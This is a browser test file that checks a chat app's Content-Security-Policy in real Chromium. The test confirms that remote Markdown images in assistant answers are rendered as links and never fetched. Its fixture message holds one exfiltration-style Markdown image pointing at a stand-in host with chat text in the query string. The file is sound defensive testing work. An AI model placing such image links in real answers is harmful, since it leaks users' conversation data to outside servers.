/// <reference lib="dom" />
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../apps/server/src/testing/test-server';
import { chromiumArgs, chromiumPath } from './chromium';

/**
 * The strict Content-Security-Policy must not break the UI: the app and the API docs render in real
 * Chromium with no CSP violation, the theme script (a file now) still runs, a remote Markdown image
 * in an answer is shown as a link and never fetched, and a Mermaid block in an answer is drawn as SVG.
 */
const hasChromium = existsSync(chromiumPath);
const hasBuild = existsSync(join(import.meta.dirname, '../apps/web/dist/index.html'));
if (!hasChromium) console.warn(`CSP browser test skipped: ${chromiumPath} is missing (apt-get install -y chromium)`);
if (!hasBuild) console.warn('CSP browser test skipped: apps/web/dist is missing (npm run build -w @switchyard/web)');

interface Observed {
  violations: string[];
  foreignRequests: string[];
}

declare global {
  interface Window {
    cspViolations?: string[];
  }
}

describe.skipIf(!hasChromium || !hasBuild)('Content-Security-Policy in Chromium', () => {
  let server: TestServer;
  let browser: Browser;
  let context: BrowserContext;

  beforeAll(async () => {
    server = await startTestServer();
    browser = await chromium.launch({ executablePath: chromiumPath, args: chromiumArgs });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.destroy();
  });

  /** A fresh page that records CSP violations (event and console) and every request off the server's origin. */
  async function observedPage(): Promise<{ page: Page; observed: Observed }> {
    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    const page = await context.newPage();
    const observed: Observed = { violations: [], foreignRequests: [] };
    // Init scripts are injected by the browser's devtools protocol, not the page, so the CSP does not block them.
    await page.addInitScript(() => {
      window.cspViolations = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        window.cspViolations?.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
      localStorage.setItem('switchyard.theme', 'dark');
    });
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) observed.violations.push(message.text());
    });
    const origin = new URL(server.url).origin;
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) {
        observed.foreignRequests.push(url);
      }
    });
    return { page, observed };
  }

  async function violationsOf(page: Page, observed: Observed): Promise<string[]> {
    const fromEvents = await page.evaluate(() => window.cspViolations ?? []);
    return [...fromEvents, ...observed.violations];
  }

  it('renders the app with no CSP violation; the theme script still runs', async () => {
    const { page, observed } = await observedPage();
    const response = await page.goto(server.url);
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    await page.getByRole('heading', { name: 'Switchyard' }).first().waitFor();
    expect(await page.evaluate(() => document.documentElement.classList.contains('dark'))).toBe(true);

    // Sign up and chat: the echo model answers with the message, a remote image included.
    await page.getByRole('button', { name: 'Create an account' }).click();
    await page.getByLabel('Name').fill('Ada');
    await page.getByLabel('Email').fill('ada@example.com');
    await page.getByLabel('Password').fill('another long password 456');
    await page.getByRole('button', { name: 'Sign up' }).click();
    await page.waitForURL('**/chat');
    const composer = page.getByLabel('Message', { exact: true });
    await page.getByLabel('Model').selectOption('echo');
    await composer.fill(
      'Look: ![secret chart](http://leak.invalid/collect?q=my%20secret%20chat)\n\n```mermaid\ngraph TD\n  Ask --> Answer\n```',
    );
    await composer.press('Control+Enter');
    const answer = page.getByRole('article', { name: 'Assistant' }).last();
    const link = answer.getByRole('link', { name: /secret chart/ });
    await link.waitFor({ timeout: 20_000 });
    expect(await link.getAttribute('href')).toBe('http://leak.invalid/collect?q=my%20secret%20chat');
    expect(await page.locator('img[src*="leak.invalid"]').count()).toBe(0);
    // The mermaid block becomes a drawn diagram (Mermaid's lazy chunk, under the same policy).
    const diagram = answer.getByRole('img', { name: 'Diagram' });
    await diagram.locator('svg').waitFor({ timeout: 30_000 });
    expect(await diagram.locator('svg').getByText('Answer').count()).toBeGreaterThan(0);

    expect(await violationsOf(page, observed)).toEqual([]);
    expect(observed.foreignRequests).toEqual([]);
    await context.close();
  }, 90_000);

  it('renders the API docs under their own policy with no CSP violation', async () => {
    const { page, observed } = await observedPage();
    await page.goto(`${server.url}/docs`);
    await page.locator('.swagger-ui .info .title').getByText('Switchyard API').waitFor({ timeout: 30_000 });
    await page.locator('.opblock').first().waitFor();
    expect(await violationsOf(page, observed)).toEqual([]);
    expect(observed.foreignRequests).toEqual([]);
    await context.close();
  }, 90_000);
});
